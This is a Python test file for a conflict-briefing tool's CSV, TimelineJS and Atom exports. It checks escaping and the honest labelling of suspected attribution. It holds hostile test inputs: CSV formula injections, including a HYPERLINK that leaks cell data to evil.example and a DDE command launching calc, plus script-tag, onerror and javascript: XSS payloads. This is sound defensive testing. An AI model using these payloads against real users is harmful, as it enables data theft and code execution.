"""Exports escaped for their own syntax (CSV cells never start a formula, TimelineJS gets safe HTML, Atom is XML), and honest
about attribution: a suspect is never made actor1, and every export says how a source attributes an actor's part."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import jinja2

from sitrep import load, select
from sitrep.load import load_project
from sitrep.model import Project
from sitrep.render import exports
from sitrep.render.html import environment, markdown_memo, render
from sitrep.render.pages import Drawings, site_pages
from sitrep.select import View
from sitrep.select import select as select_view

from ..conftest import MINI, edit

EVENT_TITLE = "  title: Two Katyusha rockets hit Balad Airbase\n"


def hostile(tmp_path: Path, title: str, extra: str = "") -> load.Loaded:
    project = tmp_path / "project"
    shutil.copytree(MINI, project)
    edit(project / "content/events.yaml", EVENT_TITLE, f"  title: {json.dumps(title)}\n{extra}")
    edit(project / "content/places.yaml", "lat: 33.94", "lat: -33.94")
    edit(project / "content/events.yaml", "killed: {count: 0}", 'killed: {count: 0, note: "\\tstarts with a tab"}')
    loaded = load.load_project(project)
    assert not loaded.problems, loaded.problems
    return loaded


def csv_rows(loaded: load.Loaded) -> list[dict[str, str]]:
    briefing = loaded.project.briefings["ed3"]
    text = exports.events_csv(select.select(loaded.project, briefing), loaded.project)
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    for number, attack in enumerate(
        ('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)")
    ):
        loaded = hostile(tmp_path / str(number), attack)
        row = next(r for r in csv_rows(loaded) if r["event_id_cnty"] == "2019-12-05-balad-rockets")
        assert row["notes"] == "'" + attack
        assert row["fatalities_note"] == "'\tstarts with a tab"
        assert row["latitude"] == "-33.9400"  # numbers stay numbers
        assert row["fatalities"] == "0"


def test_timelinejs_gets_escaped_titles_and_sanitised_summaries(tmp_path: Path) -> None:
    summary = "  summary: 'Seen <b onclick=\"steal()\">here</b>, [link](javascript:steal()) and **bold**'\n"
    loaded = hostile(tmp_path, "<script>steal()</script> & <img src=x onerror=steal()>", summary)
    view = select.select(loaded.project, loaded.project.briefings["ed3"])
    data = json.loads(exports.timelinejs(view))
    event = next(e for e in data["events"] if e["unique_id"] == "2019-12-05-balad-rockets")
    assert event["text"]["headline"] == "&lt;script&gt;steal()&lt;/script&gt; &amp; &lt;img src=x onerror=steal()&gt;"
    assert (
        event["text"]["text"]
        == '<p>Seen <b>here</b>, <a rel="noopener noreferrer nofollow">link</a> and <strong>bold</strong></p>'
    )


def test_timelinejs_is_written_as_one_indented_json_document_with_or_without_events() -> None:
    """An event at a time, the text is what json.dumps(indent=2) makes of the whole: an edition with no events too."""
    project = load_project(MINI).project
    view = select_view(project, project.briefings["ed3"])
    for shown in (view, dataclasses.replace(view, events={})):
        text = exports.timelinejs(shown)
        assert text == json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n"
        assert [e["unique_id"] for e in json.loads(text)["events"]] == list(shown.events)
    assert len(view.events) > 1


def test_timelinejs_through_the_pages_memo_is_the_same_and_renders_no_summary_the_pages_did(tmp_path: Path) -> None:
    loaded = hostile(tmp_path, "Rockets", "  summary: Two rockets **hit** the base\n")
    view = select.select(loaded.project, loaded.project.briefings["ed3"])
    env = environment(None)
    memo = markdown_memo(env)
    assert memo is not None
    env.from_string("{% for e in events %}{{ e.summary | md }}{% endfor %}").render(events=view.events.values())
    assert exports.timelinejs(view, memo) == exports.timelinejs(view)
    summary = next(e.summary for e in view.events.values() if e.summary)
    memo.html[summary] = "<p>as the pages rendered it</p>"  # what the export takes from the memo, not made again
    assert "<p>as the pages rendered it</p>" in exports.timelinejs(view, memo)
    assert markdown_memo(jinja2.Environment()) is None


def test_atom_feed_is_well_formed_xml_with_rendered_summaries(tmp_path: Path) -> None:
    loaded = load.load_project(MINI)
    briefing = loaded.project.briefings["ed1"]
    hostile_briefing = briefing.model_copy(
        update={
            "title": "Rockets\x00 \x1b[31mand\ufffe militias",
            "bluf": "**Attacks** rise; see [x](javascript:alert(1)) <script>x</script>",
        }
    )
    feed = exports.atom([hostile_briefing])
    root = ET.fromstring(feed)  # raises on a NUL or any character XML cannot hold
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entry = root.find("a:entry", ns)
    assert entry is not None
    assert entry.findtext("a:title", namespaces=ns) == "Rockets [31mand militias (edition 1)"
    summary = entry.find("a:summary", ns)
    assert summary is not None and summary.get("type") == "html"
    # the tag is shown as written, as text; the javascript: link loses its target
    assert (
        summary.text
        == '<p><strong>Attacks</strong> rise; see <a rel="noopener noreferrer nofollow">x</a> &lt;script&gt;x&lt;/script&gt;</p>'
    )


SUSPECTED = "- {actor: iran, role: perpetrator, attribution: suspected, by: kataib-hezbollah}"


def _december(project: Path) -> tuple[Project, View]:
    edit(project / "content/events.yaml", "- {actor: iran, role: perpetrator}", SUSPECTED)
    loaded = load_project(project)
    return loaded.project, select_view(loaded.project, loaded.project.briefings["ed1"])


def test_csv_keeps_a_suspect_out_of_actor1(project: Path) -> None:
    data, view = _december(project)
    rows = list(csv.DictReader(io.StringIO(exports.events_csv(view, data))))
    balad = next(row for row in rows if row["event_id_cnty"] == "2019-12-05-balad-rockets")
    assert balad["actor1"] == ""
    assert balad["attributed_actors"] == "Iran (perpetrator, suspected by Kataib Hezbollah)"


def test_json_and_timelinejs_carry_the_attribution(project: Path) -> None:
    _, view = _december(project)
    event = next(e for e in json.loads(exports.view_json(view))["events"] if e["id"] == "2019-12-05-balad-rockets")
    assert event["actors"] == [{"actor": "iran", "role": "perpetrator", "attribution": "suspected", "by": "kataib-hezbollah"}]
    timeline = json.loads(exports.timelinejs(view))
    text = next(e["text"]["text"] for e in timeline["events"] if e["unique_id"] == "2019-12-05-balad-rockets")
    assert text.endswith("<p>Attributed, not stated: Iran (perpetrator, suspected by Kataib Hezbollah).</p>")


def test_pages_show_the_attribution(project: Path) -> None:
    data, view = _december(project)
    page = next(
        p
        for p in site_pages(
            data, {"ed1": view, **{s: select_view(data, b) for s, b in data.briefings.items() if s != "ed1"}}, Drawings()
        )
        if p.path == "briefings/ed1/events.html"  # the edition's event catalogue
    )
    html = render(environment(project / "templates"), page.template, page.context)
    assert '<span class="role attributed">(perpetrator, suspected by Kataib Hezbollah)</span>' in html


def test_shipped_balad_attack_keeps_iran_a_suspect() -> None:
    # The Arab Weekly: "US officials said they suspected Iran of being behind the attack"
    from ..conftest import ROOT

    data = load_project(ROOT).project
    view = select_view(data, data.briefings["us-iran-iraq-2019-12-08"])
    rows = list(csv.DictReader(io.StringIO(exports.events_csv(view, data))))
    balad = next(row for row in rows if row["event_id_cnty"] == "2019-12-05-balad-rockets")
    assert (balad["actor1"], balad["actor2"]) == ("", "US forces in Iraq")
    assert balad["attributed_actors"] == "Iran (perpetrator, suspected by United States)"
